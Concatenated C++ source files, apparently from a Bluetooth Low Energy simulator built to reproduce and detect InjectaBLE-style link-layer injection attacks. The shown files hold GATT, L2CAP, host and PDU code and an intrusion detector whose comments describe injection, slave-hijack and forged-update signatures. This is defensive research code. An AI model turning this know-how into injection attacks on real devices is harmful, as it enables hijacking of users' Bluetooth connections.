// Services.
constexpr std::uint16_t kGapService = 0x1800;
constexpr std::uint16_t kGattService = 0x1801;
constexpr std::uint16_t kImmediateAlertService = 0x1802;
constexpr std::uint16_t kBatteryService = 0x180F;
constexpr std::uint16_t kAlertNotificationService = 0x1811;
constexpr std::uint16_t kHidService = 0x1812;

// Characteristics.
constexpr std::uint16_t kDeviceName = 0x2A00;
constexpr std::uint16_t kAppearance = 0x2A01;
constexpr std::uint16_t kAlertLevel = 0x2A06;
constexpr std::uint16_t kBatteryLevel = 0x2A19;
constexpr std::uint16_t kNewAlert = 0x2A46;
constexpr std::uint16_t kHidInformation = 0x2A4A;
constexpr std::uint16_t kHidReportMap = 0x2A4B;
constexpr std::uint16_t kHidControlPoint = 0x2A4C;
constexpr std::uint16_t kHidReport = 0x2A4D;
constexpr std::uint16_t kHidProtocolMode = 0x2A4E;

// Characteristic property bits (in the declaration value).
namespace props {
constexpr std::uint8_t kRead = 0x02;
constexpr std::uint8_t kWriteNoRsp = 0x04;
constexpr std::uint8_t kWrite = 0x08;
constexpr std::uint8_t kNotify = 0x10;
constexpr std::uint8_t kIndicate = 0x20;
}  // namespace props

}  // namespace ble::gatt
