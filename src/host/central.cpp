#include "host/central.hpp"

#include "common/log.hpp"

namespace ble::host {

Central::Central(sim::Scheduler& scheduler, sim::RadioMedium& medium, Rng rng,
                 CentralConfig config)
    : config_(std::move(config)),
      att_client_([this](const att::AttPdu& pdu) {
          if (l2cap_) l2cap_->send(kAttCid, pdu.serialize());
      }),
      rng_(rng) {
    link::LinkLayerDeviceConfig dev_cfg;
    dev_cfg.radio = config_.radio;
    dev_cfg.radio.name = config_.name;
    dev_cfg.address = link::DeviceAddress::random_static(rng_);
    dev_cfg.auto_readvertise = false;
    dev_cfg.declared_sca_ppm = config_.declared_sca_ppm;
    dev_cfg.support_csa2 = config_.support_csa2;
    device_ = std::make_unique<link::LinkLayerDevice>(scheduler, medium, rng_.fork(),
                                                      std::move(dev_cfg));
    wire_hooks();
}

void Central::wire_hooks() {
    link::ConnectionHooks hooks;
    hooks.on_data = [this](const link::DataPdu& pdu) {
        if (l2cap_) l2cap_->handle_ll_pdu(pdu);
    };
    hooks.on_control = [this](const link::ControlPdu& pdu) { handle_control(pdu); };
    hooks.on_disconnected = [this](link::DisconnectReason reason) {
        connected_ = false;
        l2cap_.reset();
        if (on_disconnected) on_disconnected(reason);
    };
    hooks.on_event_closed = [this](const link::ConnectionEventReport& report) {
        if (on_event_closed) on_event_closed(report);
    };
    device_->set_connection_hooks(std::move(hooks));

    device_->on_connection_established = [this](link::Connection& conn) {
        connected_ = true;
        l2cap_ = std::make_unique<L2capChannel>(
            27,
            [&conn](link::Llid llid, Bytes fragment) {
                conn.send_data(llid, std::move(fragment));
            },
            [this](std::uint16_t cid, const Bytes& sdu) {
                if (cid != kAttCid) return;
                if (const auto pdu = att::AttPdu::parse(sdu)) att_client_.handle_pdu(*pdu);
            });
        if (on_connected) on_connected();
    };
}

void Central::connect(const link::DeviceAddress& peer, link::ConnectionParams params) {
    device_->connect_to(peer, params);
}

void Central::start_encryption(const crypto::Aes128Key& ltk) {
    link::Connection* conn = connection();
    if (conn == nullptr) return;
    ltk_ = ltk;
    link::EncReq req;
    req.rand = rng_.next_u64();
    req.ediv = static_cast<std::uint16_t>(rng_.next_below(0x10000));
    for (auto& b : req.skd_m) b = static_cast<std::uint8_t>(rng_.next_below(256));
    for (auto& b : req.iv_m) b = static_cast<std::uint8_t>(rng_.next_below(256));
    enc_req_ = req;
    conn->send_control(req.to_control());
}

bool Central::encrypted() const noexcept {
    const auto* conn = const_cast<Central*>(this)->connection();
    return conn != nullptr && conn->encryption_enabled();
}

void Central::handle_control(const link::ControlPdu& pdu) {
    if (pdu.opcode != link::ControlOpcode::kEncRsp || !enc_req_ || !ltk_) return;
    link::Connection* conn = connection();
    if (conn == nullptr) return;
    const auto rsp = link::EncRsp::parse(pdu);
    if (!rsp) return;

    crypto::SessionMaterial material;
    material.ltk = *ltk_;
    material.skd_m = enc_req_->skd_m;
    material.iv_m = enc_req_->iv_m;
    material.skd_s = rsp->skd_s;
    material.iv_s = rsp->iv_s;
    conn->set_crypto(std::make_shared<crypto::LinkEncryption>(material));
    enc_req_.reset();
    // LL_START_ENC_REQ leaves in plaintext; the Connection enables the cipher
    // for everything after it (both directions).
    conn->send_control(link::ControlPdu{link::ControlOpcode::kStartEncReq, {}});
    BLE_LOG_INFO(config_.name, ": encryption session keys derived (master side)");
}

}  // namespace ble::host
