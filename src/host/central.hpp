// Central host: scans, connects, runs a GATT client over L2CAP, and can
// start Link-Layer encryption when it shares an LTK with the peer. The
// paper's experiments use a Central as the legitimate "Master" (a Mirage
// simulated Central in Exp. 1/2, a smartphone in Exp. 3) — here it is the
// same class with different connection parameters.
#pragma once

#include <memory>
#include <optional>
#include <string>

#include "att/client.hpp"
#include "crypto/link_encryption.hpp"
#include "host/l2cap.hpp"
#include "link/device.hpp"

namespace ble::host {

struct CentralConfig {
    std::string name = "central";
    sim::RadioDeviceConfig radio{};
    /// SCA declared in CONNECT_REQ (0 = actual crystal bound).
    double declared_sca_ppm = 0.0;
    /// Negotiate Channel Selection Algorithm #2 when the peer supports it.
    bool support_csa2 = false;
};

class Central {
public:
    Central(sim::Scheduler& scheduler, sim::RadioMedium& medium, Rng rng,
            CentralConfig config);

    /// Scans for `peer` and connects with `params` (AA/CRCInit auto-filled).
    void connect(const link::DeviceAddress& peer, link::ConnectionParams params = {});

    [[nodiscard]] att::AttClient& gatt() noexcept { return att_client_; }
    [[nodiscard]] link::LinkLayerDevice& device() noexcept { return *device_; }
    [[nodiscard]] link::Connection* connection() noexcept { return device_->connection(); }
    [[nodiscard]] bool connected() const noexcept { return connected_; }

    /// Starts the LL encryption procedure as master (LL_ENC_REQ ...).
    void start_encryption(const crypto::Aes128Key& ltk);
    [[nodiscard]] bool encrypted() const noexcept;

    std::function<void()> on_connected;
    std::function<void(link::DisconnectReason)> on_disconnected;
    std::function<void(const link::ConnectionEventReport&)> on_event_closed;

private:
    void wire_hooks();
    void handle_control(const link::ControlPdu& pdu);

    CentralConfig config_;
    std::unique_ptr<link::LinkLayerDevice> device_;
    att::AttClient att_client_;
    std::unique_ptr<L2capChannel> l2cap_;
    bool connected_ = false;
    Rng rng_;

    std::optional<crypto::Aes128Key> ltk_;
    std::optional<link::EncReq> enc_req_;  // material we sent, awaiting EncRsp
};

}  // namespace ble::host
