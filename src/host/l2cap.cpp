#include "host/l2cap.hpp"

#include <algorithm>

#include "common/log.hpp"

namespace ble::host {

void L2capChannel::send(std::uint16_t cid, BytesView sdu) {
    ByteWriter w(4 + sdu.size());
    w.write_u16(static_cast<std::uint16_t>(sdu.size()));
    w.write_u16(cid);
    w.write_bytes(sdu);
    const Bytes frame = w.take();

    for (std::size_t off = 0; off < frame.size(); off += max_ll_payload_) {
        const std::size_t n = std::min(max_ll_payload_, frame.size() - off);
        Bytes fragment(frame.begin() + static_cast<std::ptrdiff_t>(off),
                       frame.begin() + static_cast<std::ptrdiff_t>(off + n));
        send_(off == 0 ? link::Llid::kDataStart : link::Llid::kDataContinuation,
              std::move(fragment));
    }
}

void L2capChannel::handle_ll_pdu(const link::DataPdu& pdu) {
    if (pdu.llid == link::Llid::kDataStart) {
        rx_buffer_ = pdu.payload;
    } else if (pdu.llid == link::Llid::kDataContinuation && !pdu.payload.empty()) {
        if (rx_buffer_.empty()) {
            BLE_LOG_DEBUG("l2cap: continuation without a start fragment, dropping");
            return;
        }
        rx_buffer_.insert(rx_buffer_.end(), pdu.payload.begin(), pdu.payload.end());
    } else {
        return;
    }

    if (rx_buffer_.size() < 4) return;  // header incomplete
    ByteReader r(rx_buffer_);
    const std::uint16_t len = *r.read_u16();
    const std::uint16_t cid = *r.read_u16();
    rx_expected_ = 4u + len;
    if (rx_buffer_.size() < rx_expected_) return;
    if (rx_buffer_.size() > rx_expected_) {
        BLE_LOG_DEBUG("l2cap: oversized frame, dropping");
        rx_buffer_.clear();
        return;
    }
    const Bytes sdu(rx_buffer_.begin() + 4, rx_buffer_.end());
    rx_buffer_.clear();
    deliver_(cid, sdu);
}

}  // namespace ble::host
