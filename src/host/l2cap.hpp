// Minimal L2CAP basic-mode framing: [length u16 | CID u16 | payload],
// fragmented over Link-Layer data PDUs (LLID "start" / "continuation").
// ATT rides on the fixed channel 0x0004.
#pragma once

#include <cstdint>
#include <functional>

#include "common/bytes.hpp"
#include "link/pdu.hpp"

namespace ble::host {

constexpr std::uint16_t kAttCid = 0x0004;

class L2capChannel {
public:
    /// Sends one LL fragment (LLID + payload).
    using SendFragment = std::function<void(link::Llid, Bytes)>;
    /// Delivers one reassembled SDU.
    using DeliverSdu = std::function<void(std::uint16_t cid, const Bytes& sdu)>;

    L2capChannel(std::size_t max_ll_payload, SendFragment send, DeliverSdu deliver)
        : max_ll_payload_(max_ll_payload), send_(std::move(send)),
          deliver_(std::move(deliver)) {}

    /// Frames `sdu` on `cid` and emits one or more LL fragments.
    void send(std::uint16_t cid, BytesView sdu);

    /// Feed every received (non-control) LL data PDU here.
    void handle_ll_pdu(const link::DataPdu& pdu);

    [[nodiscard]] std::size_t pending_rx_bytes() const noexcept { return rx_buffer_.size(); }

private:
    std::size_t max_ll_payload_;
    SendFragment send_;
    DeliverSdu deliver_;

    Bytes rx_buffer_;           // accumulating L2CAP frame (starts with header)
    std::size_t rx_expected_ = 0;  // total frame size incl. 4-byte header
};

}  // namespace ble::host
