#include "host/peripheral.hpp"

#include "common/log.hpp"

namespace ble::host {

Peripheral::Peripheral(sim::Scheduler& scheduler, sim::RadioMedium& medium, Rng rng,
                       PeripheralConfig config)
    : config_(std::move(config)), rng_(rng) {
    link::LinkLayerDeviceConfig dev_cfg;
    dev_cfg.radio = config_.radio;
    dev_cfg.radio.name = config_.name;
    dev_cfg.adv_interval = config_.adv_interval;
    dev_cfg.widening_scale = config_.widening_scale;
    dev_cfg.support_csa2 = config_.support_csa2;
    dev_cfg.address = link::DeviceAddress::random_static(rng_);
    device_ = std::make_unique<link::LinkLayerDevice>(scheduler, medium, rng_.fork(),
                                                      std::move(dev_cfg));
    wire_hooks();
}

void Peripheral::wire_hooks() {
    link::ConnectionHooks hooks;
    hooks.on_data = [this](const link::DataPdu& pdu) {
        if (l2cap_) l2cap_->handle_ll_pdu(pdu);
    };
    hooks.on_control = [this](const link::ControlPdu& pdu) { handle_control(pdu); };
    hooks.on_disconnected = [this](link::DisconnectReason reason) {
        connected_ = false;
        l2cap_.reset();
        if (on_disconnected) on_disconnected(reason);
    };
    hooks.on_event_closed = [this](const link::ConnectionEventReport& report) {
        if (on_event_closed) on_event_closed(report);
    };
    device_->set_connection_hooks(std::move(hooks));

    device_->on_connection_established = [this](link::Connection& conn) {
        connected_ = true;
        l2cap_ = std::make_unique<L2capChannel>(
            27,
            [&conn](link::Llid llid, Bytes fragment) {
                conn.send_data(llid, std::move(fragment));
            },
            [this](std::uint16_t cid, const Bytes& sdu) {
                if (cid == kAttCid) handle_att_sdu(sdu);
            });
        if (on_connected) on_connected();
    };
}

void Peripheral::start() { device_->start_advertising(link::make_adv_name(config_.name)); }

void Peripheral::handle_att_sdu(const Bytes& sdu) {
    const auto pdu = att::AttPdu::parse(sdu);
    if (!pdu) return;
    const auto response = att_server_.handle_pdu(*pdu);
    if (response && l2cap_) {
        l2cap_->send(kAttCid, response->serialize());
    }
}

void Peripheral::notify(std::uint16_t handle, BytesView value) {
    if (!connected_ || !l2cap_) return;
    l2cap_->send(kAttCid, att::make_notification(handle, value).serialize());
}

void Peripheral::handle_control(const link::ControlPdu& pdu) {
    if (pdu.opcode != link::ControlOpcode::kEncReq) return;
    link::Connection* conn = connection();
    if (conn == nullptr) return;
    const auto req = link::EncReq::parse(pdu);
    if (!req) return;
    if (!ltk_) {
        // No key: reject so the master does not wait forever.
        conn->send_control(
            link::ControlPdu{link::ControlOpcode::kRejectInd, Bytes{0x06}});
        return;
    }

    link::EncRsp rsp;
    for (auto& b : rsp.skd_s) b = static_cast<std::uint8_t>(rng_.next_below(256));
    for (auto& b : rsp.iv_s) b = static_cast<std::uint8_t>(rng_.next_below(256));

    crypto::SessionMaterial material;
    material.ltk = *ltk_;
    material.skd_m = req->skd_m;
    material.iv_m = req->iv_m;
    material.skd_s = rsp.skd_s;
    material.iv_s = rsp.iv_s;
    conn->set_crypto(std::make_shared<crypto::LinkEncryption>(material));
    conn->send_control(rsp.to_control());
    BLE_LOG_INFO(config_.name, ": encryption session keys derived (slave side)");
}

}  // namespace ble::host
