// Peripheral host: a complete GATT-server device — advertising, accepting
// connections, serving ATT over L2CAP, answering the encryption-start
// procedure when it holds an LTK. The emulated lightbulb/keyfob/smartwatch
// are a Peripheral plus a gatt::*Profile.
#pragma once

#include <memory>
#include <optional>
#include <string>

#include "att/server.hpp"
#include "crypto/link_encryption.hpp"
#include "host/l2cap.hpp"
#include "link/device.hpp"

namespace ble::host {

struct PeripheralConfig {
    std::string name = "peripheral";
    sim::RadioDeviceConfig radio{};
    Duration adv_interval = 100_ms;
    /// Counter-measure knob (paper §VIII, solution 1); 1.0 = spec widening.
    double widening_scale = 1.0;
    /// Advertise Channel Selection Algorithm #2 support (BLE 5).
    bool support_csa2 = false;
};

class Peripheral {
public:
    Peripheral(sim::Scheduler& scheduler, sim::RadioMedium& medium, Rng rng,
               PeripheralConfig config);

    /// Begins advertising (name in the AD payload).
    void start();

    [[nodiscard]] att::AttServer& att_server() noexcept { return att_server_; }
    [[nodiscard]] link::LinkLayerDevice& device() noexcept { return *device_; }
    [[nodiscard]] link::Connection* connection() noexcept { return device_->connection(); }
    [[nodiscard]] bool connected() const noexcept { return connected_; }
    [[nodiscard]] const link::DeviceAddress& address() const noexcept {
        return device_->address();
    }

    /// Pushes a Handle Value Notification to the connected client.
    void notify(std::uint16_t handle, BytesView value);

    /// Arms the LTK so the peripheral accepts LL_ENC_REQ (the paper's
    /// counter-measure 2: "systematically activate the encryption").
    void set_ltk(const crypto::Aes128Key& ltk) { ltk_ = ltk; }

    std::function<void()> on_connected;
    std::function<void(link::DisconnectReason)> on_disconnected;
    /// Diagnostics pass-through.
    std::function<void(const link::ConnectionEventReport&)> on_event_closed;

private:
    void wire_hooks();
    void handle_att_sdu(const Bytes& sdu);
    void handle_control(const link::ControlPdu& pdu);

    PeripheralConfig config_;
    std::unique_ptr<link::LinkLayerDevice> device_;
    att::AttServer att_server_;
    std::unique_ptr<L2capChannel> l2cap_;
    std::optional<crypto::Aes128Key> ltk_;
    bool connected_ = false;
    Rng rng_;
};

}  // namespace ble::host
