#include "ids/detector.hpp"

#include <cmath>
#include <cstdio>

#include "common/log.hpp"
#include "obs/bus.hpp"

namespace ble::ids {

using injectable::AttackSession;
using injectable::SniffedPacket;

const char* alert_type_name(AlertType type) noexcept {
    switch (type) {
        case AlertType::kAnchorJitter: return "anchor timing anomaly";
        case AlertType::kCrcBurst: return "CRC failure burst";
        case AlertType::kSpuriousTerminate: return "spurious LL_TERMINATE_IND";
        case AlertType::kForgedUpdate: return "forged CONNECTION_UPDATE";
        case AlertType::kDoubleAnchor: return "double anchor frame";
        case AlertType::kConnectionLost: return "connection lost";
    }
    return "?";
}

InjectionDetector::InjectionDetector(injectable::AttackerRadio& radio,
                                     injectable::SniffedConnection target,
                                     DetectorParams params)
    : radio_(radio), params_(params) {
    AttackSession::Params session_params;
    // The monitor deliberately stays on the pre-update cadence: a legitimate
    // update silences the old cadence, a forged one does not (the legitimate
    // master never heard of it).
    session_params.apply_sniffed_updates = false;
    // Keep following after a sniffed TERMINATE: post-terminate traffic is the
    // slave-hijack signature. A real termination just goes quiet and the
    // session expires through missed events.
    session_params.stop_on_terminate = false;
    session_params.max_missed_events = 16;
    session_ = std::make_unique<AttackSession>(radio_, std::move(target), session_params);
}

InjectionDetector::~InjectionDetector() { stop(); }

void InjectionDetector::start() {
    session_->on_packet = [this](const SniffedPacket& packet) { handle_packet(packet); };
    session_->on_update_sniffed = [this](const link::ConnectionUpdateInd& update) {
        update_seen_ = update;
        old_interval_ = session_->params().hop_interval;
        old_cadence_after_instant_ = 0;
    };
    session_->on_connection_lost = [this] {
        if (terminate_seen_) return;  // orderly termination, not an attack
        if (update_seen_) return;     // legitimate update moved the cadence;
                                      // a production monitor would re-sync on
                                      // the new parameters here
        raise(AlertType::kConnectionLost, session_->event_counter(),
              "lost sync with the monitored connection");
    };
    session_->start();
}

void InjectionDetector::stop() {
    if (session_) session_->stop();
}

void InjectionDetector::raise(AlertType type, std::uint16_t event_counter,
                              std::string detail) {
    ++alerts_;
    Alert alert;
    alert.type = type;
    alert.time = radio_.now();
    alert.event_counter = event_counter;
    alert.detail = std::move(detail);
    BLE_LOG_INFO("ids: ", alert_type_name(type), " (event ", event_counter, "): ",
                 alert.detail);
    auto& bus = radio_.medium().bus();
    if (bus.active()) {
        obs::IdsAlert event;
        event.time = alert.time;
        event.type = static_cast<std::uint8_t>(type);
        event.type_name = alert_type_name(type);
        event.event_counter = event_counter;
        event.detail = alert.detail;
        bus.emit(event);
    }
    if (on_alert) on_alert(alert);
}

void InjectionDetector::handle_packet(const SniffedPacket& packet) {
    const auto& params = session_->params();

    if (packet.sender != SniffedPacket::Sender::kMaster) return;
    ++events_;

    // --- double anchor (paper's "double frames" signature) ---
    if (last_anchor_ && packet.event_counter == last_anchor_event_ &&
        packet.start - *last_anchor_ > params_.double_anchor_gap) {
        char buf[96];
        std::snprintf(buf, sizeof(buf),
                      "second anchor-like frame %.0f us into the same event",
                      to_us(packet.start - *last_anchor_));
        raise(AlertType::kDoubleAnchor, packet.event_counter, buf);
    }

    // --- anchor jitter ---
    if (last_anchor_) {
        const auto elapsed_events =
            static_cast<std::uint16_t>(packet.event_counter - last_anchor_event_);
        if (elapsed_events > 0) {
            const Duration expected =
                static_cast<Duration>(elapsed_events) * params.interval();
            const Duration actual = packet.start - *last_anchor_;
            // Legitimate drift is bounded by the SCAs declared in CONNECT_REQ
            // (the same bound the slave's window widening uses).
            const double bound_ppm = params.master_sca_ppm() + 50.0;
            const auto tolerance = static_cast<Duration>(
                bound_ppm * 1e-6 * static_cast<double>(expected)) +
                params_.jitter_margin;
            if (std::llabs(actual - expected) > tolerance) {
                char buf[128];
                std::snprintf(buf, sizeof(buf),
                              "anchor delta %.1f us off nominal (tolerance %.1f us)",
                              to_us(actual - expected), to_us(tolerance));
                raise(AlertType::kAnchorJitter, packet.event_counter, buf);
            }
        }
    }
    last_anchor_ = packet.start;
    last_anchor_event_ = packet.event_counter;

    // --- CRC burst ---
    crc_history_.push_back(packet.crc_ok);
    while (crc_history_.size() > static_cast<std::size_t>(params_.crc_window_events)) {
        crc_history_.pop_front();
    }
    int failures = 0;
    for (bool ok : crc_history_) failures += ok ? 0 : 1;
    if (failures >= params_.crc_burst_threshold) {
        char buf[96];
        std::snprintf(buf, sizeof(buf), "%d CRC-failed anchor frames in the last %zu events",
                      failures, crc_history_.size());
        raise(AlertType::kCrcBurst, packet.event_counter, buf);
        crc_history_.clear();  // re-arm
    }

    // --- spurious terminate: master keeps polling after a TERMINATE_IND ---
    if (packet.crc_ok && packet.pdu.is_control() && !packet.pdu.payload.empty()) {
        const auto opcode = static_cast<link::ControlOpcode>(packet.pdu.payload[0]);
        if (opcode == link::ControlOpcode::kTerminateInd) {
            terminate_seen_ = true;
            terminate_event_ = packet.event_counter;
        }
    }
    if (terminate_seen_ &&
        static_cast<std::uint16_t>(packet.event_counter - terminate_event_) >=
            params_.terminate_grace_events) {
        raise(AlertType::kSpuriousTerminate, packet.event_counter,
              "master still active after LL_TERMINATE_IND: slave hijack suspected");
        terminate_seen_ = false;  // one alert per terminate
    }

    // --- forged update: old cadence survives past the instant ---
    if (update_seen_ &&
        static_cast<std::uint16_t>(packet.event_counter - update_seen_->instant) <
            0x8000 &&
        packet.event_counter != update_seen_->instant) {
        // We deliberately kept following the old cadence; this master frame
        // arrived on it after the instant.
        if (++old_cadence_after_instant_ >= params_.update_grace_events) {
            raise(AlertType::kForgedUpdate, packet.event_counter,
                  "anchors continue at the old cadence after the update instant: "
                  "the master never sent that update");
            update_seen_.reset();
        }
    }
}

}  // namespace ble::ids
