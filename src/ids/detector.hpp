// Intrusion detection for InjectaBLE-style attacks (paper §VIII, solution 3:
// "An IDS designed to monitor BLE Link Layer could be able to detect, at the
// right instant, the presence of double frames ... variations in the timing
// between packet emissions").
//
// The monitor is a passive radio following the target connection with the
// same sniffing machinery the attacker uses (an observe-only AttackSession —
// defenders and attackers share the synchronisation problem). Four detectors
// run over the packet stream, each keyed to one attack signature:
//
//  * ANCHOR JITTER — a winning injection re-anchors the slave up to a full
//    widening early; the next legitimate anchor then lands `w` late relative
//    to the previous (attacker) anchor. Legitimate drift is bounded by the
//    SCAs exchanged in CONNECT_REQ, so any |delta - interval| beyond that
//    bound (+ margin) is flagged.
//  * CRC BURST — losing injection attempts corrupt the anchor frame
//    (collision outcome (b) of Fig. 5); a run of CRC-failed master frames on
//    an otherwise healthy link is the attack's rumble.
//  * SPURIOUS TERMINATE — scenario B's signature: an LL_TERMINATE_IND is
//    followed by *continued* master polling (a real termination ends the
//    connection; a hijack keeps it alive for the impostor slave).
//  * FORGED UPDATE — scenarios C/D: a CONNECTION_UPDATE_IND after whose
//    instant anchors keep arriving at the *old* cadence (the legitimate
//    master never applied it, because it never sent it).
#pragma once

#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <optional>
#include <string>

#include "core/session.hpp"

namespace ble::ids {

enum class AlertType : std::uint8_t {
    kAnchorJitter,
    kCrcBurst,
    kSpuriousTerminate,
    kForgedUpdate,
    /// The paper's headline signature: "the presence of double frames: the
    /// legitimate Master frame and the attacker one" in a single event.
    kDoubleAnchor,
    kConnectionLost,
};

[[nodiscard]] const char* alert_type_name(AlertType type) noexcept;

struct Alert {
    AlertType type{};
    TimePoint time = 0;
    std::uint16_t event_counter = 0;
    std::string detail;
};

struct DetectorParams {
    /// Extra anchor-timing tolerance beyond the spec drift bound. Must sit
    /// between benign observation noise (a few µs) and the anchor shift a
    /// winning injection causes (widening minus attacker latency, ~15-30 µs).
    Duration jitter_margin = microseconds(6);
    /// Master-classified frames in the same event further apart than this are
    /// a double anchor (MD exchanges re-poll within ~1 ms; forged transmit
    /// windows start >= 1.25 ms later).
    Duration double_anchor_gap = microseconds(1200);
    /// CRC-burst detector: window length (events) and failure threshold.
    int crc_window_events = 16;
    int crc_burst_threshold = 3;
    /// Events of continued master activity after a TERMINATE_IND before the
    /// hijack alert fires.
    int terminate_grace_events = 3;
    /// Events of old-cadence anchors after an update instant before alerting.
    int update_grace_events = 2;
};

class InjectionDetector {
public:
    /// The detector owns an observe-only session on `radio` following
    /// `target` (captured by the defender's own sniffer).
    InjectionDetector(injectable::AttackerRadio& radio, injectable::SniffedConnection target,
                      DetectorParams params = {});
    ~InjectionDetector();

    void start();
    void stop();

    std::function<void(const Alert&)> on_alert;

    [[nodiscard]] int alerts_raised() const noexcept { return alerts_; }
    [[nodiscard]] bool following() const noexcept { return session_ && !session_->lost(); }
    /// Events observed so far (diagnostics / false-positive-rate baselines).
    [[nodiscard]] std::uint64_t events_observed() const noexcept { return events_; }

private:
    void handle_packet(const injectable::SniffedPacket& packet);
    void raise(AlertType type, std::uint16_t event_counter, std::string detail);

    injectable::AttackerRadio& radio_;
    DetectorParams params_;
    std::unique_ptr<injectable::AttackSession> session_;

    int alerts_ = 0;
    std::uint64_t events_ = 0;

    // Anchor-jitter state.
    std::optional<TimePoint> last_anchor_;
    std::uint16_t last_anchor_event_ = 0;

    // CRC-burst state.
    std::deque<bool> crc_history_;

    // Terminate-hijack state.
    bool terminate_seen_ = false;
    std::uint16_t terminate_event_ = 0;

    // Forged-update state.
    std::optional<link::ConnectionUpdateInd> update_seen_;
    int old_cadence_after_instant_ = 0;
    std::uint16_t old_interval_ = 0;
};

}  // namespace ble::ids
