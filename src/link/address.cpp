#include "link/address.hpp"

#include <cstdio>

namespace ble::link {

std::optional<DeviceAddress> DeviceAddress::from_string(const std::string& text,
                                                        AddressType type) {
    std::array<unsigned, 6> v{};
    if (std::sscanf(text.c_str(), "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4],
                    &v[5]) != 6) {
        return std::nullopt;
    }
    std::array<std::uint8_t, 6> octets{};
    for (int i = 0; i < 6; ++i) {
        if (v[static_cast<std::size_t>(i)] > 0xFF) return std::nullopt;
        // Printed order is MSB first; storage is LSB first.
        octets[static_cast<std::size_t>(5 - i)] =
            static_cast<std::uint8_t>(v[static_cast<std::size_t>(i)]);
    }
    return DeviceAddress(octets, type);
}

DeviceAddress DeviceAddress::random_static(Rng& rng) {
    std::array<std::uint8_t, 6> octets{};
    for (auto& b : octets) b = static_cast<std::uint8_t>(rng.next_below(256));
    octets[5] |= 0xC0;  // random static: two MSBs of the address set
    return DeviceAddress(octets, AddressType::kRandom);
}

void DeviceAddress::write_to(ByteWriter& w) const {
    w.write_bytes(BytesView(octets_.data(), octets_.size()));
}

std::optional<DeviceAddress> DeviceAddress::read_from(ByteReader& r, AddressType type) {
    auto bytes = r.read_bytes(6);
    if (!bytes) return std::nullopt;
    std::array<std::uint8_t, 6> octets{};
    std::copy(bytes->begin(), bytes->end(), octets.begin());
    return DeviceAddress(octets, type);
}

std::string DeviceAddress::to_string() const {
    char buf[18];
    std::snprintf(buf, sizeof(buf), "%02x:%02x:%02x:%02x:%02x:%02x", octets_[5], octets_[4],
                  octets_[3], octets_[2], octets_[1], octets_[0]);
    return buf;
}

}  // namespace ble::link
