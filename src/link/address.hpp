// Bluetooth device addresses (BD_ADDR): 48 bits, public or random.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <string>

#include "common/bytes.hpp"
#include "common/rng.hpp"

namespace ble::link {

enum class AddressType : std::uint8_t { kPublic = 0, kRandom = 1 };

class DeviceAddress {
public:
    DeviceAddress() = default;
    DeviceAddress(std::array<std::uint8_t, 6> octets, AddressType type) noexcept
        : octets_(octets), type_(type) {}

    /// Parses "aa:bb:cc:dd:ee:ff" (most significant octet first, as printed).
    static std::optional<DeviceAddress> from_string(const std::string& text,
                                                    AddressType type = AddressType::kPublic);

    /// Random static address (two most significant bits set, per spec).
    static DeviceAddress random_static(Rng& rng);

    /// On-air byte order is least-significant-octet first.
    void write_to(ByteWriter& w) const;
    static std::optional<DeviceAddress> read_from(ByteReader& r, AddressType type);

    [[nodiscard]] const std::array<std::uint8_t, 6>& octets() const noexcept { return octets_; }
    [[nodiscard]] AddressType type() const noexcept { return type_; }
    [[nodiscard]] std::string to_string() const;

    friend bool operator==(const DeviceAddress& a, const DeviceAddress& b) noexcept {
        return a.octets_ == b.octets_ && a.type_ == b.type_;
    }

private:
    std::array<std::uint8_t, 6> octets_{};  // octets_[0] = least significant
    AddressType type_ = AddressType::kPublic;
};

}  // namespace ble::link
