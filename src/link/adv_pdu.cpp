#include "link/adv_pdu.hpp"

namespace ble::link {

namespace {
// Worst-case ppm for SCA field values 0..7 (Vol 6, Part B, Table 2.2).
constexpr double kScaPpm[8] = {500, 250, 150, 100, 75, 50, 30, 20};
}  // namespace

double sca_field_to_ppm(std::uint8_t sca_field) noexcept { return kScaPpm[sca_field & 7]; }

std::uint8_t ppm_to_sca_field(double ppm) noexcept {
    for (std::uint8_t field = 7;; --field) {
        if (kScaPpm[field] >= ppm || field == 0) return field;
    }
}

AdvPdu ConnectReqPdu::to_adv_pdu() const {
    ByteWriter w(34);
    initiator.write_to(w);
    advertiser.write_to(w);
    w.write_u32(params.access_address);
    w.write_u24(params.crc_init);
    w.write_u8(params.win_size);
    w.write_u16(params.win_offset);
    w.write_u16(params.hop_interval);
    w.write_u16(params.latency);
    w.write_u16(params.timeout);
    params.channel_map.write_to(w);
    w.write_u8(static_cast<std::uint8_t>((params.hop_increment & 0x1F) |
                                         ((params.master_sca & 0x07) << 5)));

    AdvPdu pdu;
    pdu.type = AdvPduType::kConnectReq;
    pdu.ch_sel = params.use_csa2;
    pdu.tx_add = initiator.type() == AddressType::kRandom;
    pdu.rx_add = advertiser.type() == AddressType::kRandom;
    pdu.payload = w.take();
    return pdu;
}

std::optional<ConnectReqPdu> ConnectReqPdu::parse(const AdvPdu& pdu) noexcept {
    if (pdu.type != AdvPduType::kConnectReq || pdu.payload.size() != 34) return std::nullopt;
    ByteReader r(pdu.payload);
    ConnectReqPdu out;
    auto init = DeviceAddress::read_from(
        r, pdu.tx_add ? AddressType::kRandom : AddressType::kPublic);
    auto adv = DeviceAddress::read_from(
        r, pdu.rx_add ? AddressType::kRandom : AddressType::kPublic);
    if (!init || !adv) return std::nullopt;
    out.initiator = *init;
    out.advertiser = *adv;
    out.params.access_address = *r.read_u32();
    out.params.crc_init = *r.read_u24();
    out.params.win_size = *r.read_u8();
    out.params.win_offset = *r.read_u16();
    out.params.hop_interval = *r.read_u16();
    out.params.latency = *r.read_u16();
    out.params.timeout = *r.read_u16();
    out.params.channel_map = ChannelMap::read_from(r);
    const auto hop_sca = r.read_u8();
    if (!r.ok() || !hop_sca) return std::nullopt;
    out.params.hop_increment = *hop_sca & 0x1F;
    out.params.master_sca = (*hop_sca >> 5) & 0x07;
    out.params.use_csa2 = pdu.ch_sel;
    return out;
}

AdvPdu AdvDataPdu::to_adv_pdu() const {
    ByteWriter w(6 + data.size());
    advertiser.write_to(w);
    w.write_bytes(data);
    AdvPdu pdu;
    pdu.type = type;
    pdu.tx_add = advertiser.type() == AddressType::kRandom;
    pdu.payload = w.take();
    return pdu;
}

std::optional<AdvDataPdu> AdvDataPdu::parse(const AdvPdu& pdu) noexcept {
    if (pdu.payload.size() < kDeviceAddressBytes ||
        pdu.payload.size() > kMaxAdvPayloadBytes)
